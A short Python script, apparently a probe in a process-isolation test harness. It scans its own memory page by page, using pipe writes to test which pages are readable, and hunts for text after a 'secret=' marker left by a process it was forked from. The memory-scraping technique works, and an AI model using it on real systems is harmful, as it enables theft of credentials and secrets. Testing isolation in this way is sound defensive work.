"""Searches its own memory, page by page, for what its opponent was told when it was started."""

import ctypes
import gc
import os

from attack import attack, libc, tell

PAGE, MOST = 4096, 20_000
MARK = b"secret="


def attempt():
    """From the pages of everything it knows, in both directions, as far as there is memory."""
    gc.unfreeze()  # else the collector is silent about what was there before a fork
    libc.malloc.restype = ctypes.c_void_p
    known = [id(one) for one in gc.get_objects()] + [
        libc.malloc(size) or 0 for size in (16, 1000, 100_000, 1 << 20)
    ]
    known += [
        ctypes.c_void_p.in_dll(libc, "environ").value or 0,
        ctypes.cast(libc.malloc, ctypes.c_void_p).value or 0,
    ]
    take, give = os.pipe()
    seen = set()
    for start in {address // PAGE * PAGE for address in known}:
        for step in (PAGE, -PAGE):
            page = start
            while (
                page not in seen
                and len(seen) < MOST
                and libc.write(give, ctypes.c_void_p(page), PAGE) == PAGE
            ):
                seen.add(page)
                look(os.read(take, PAGE))
                page += step
    tell(f"{len(seen)} pages")


def look(memory):
    """Say what stands behind the mark; in the words of this program nothing does."""
    for part in memory.split(MARK)[1:]:
        if part[:1].isalnum():
            tell(part[:24].decode("latin-1"))


attack(attempt)
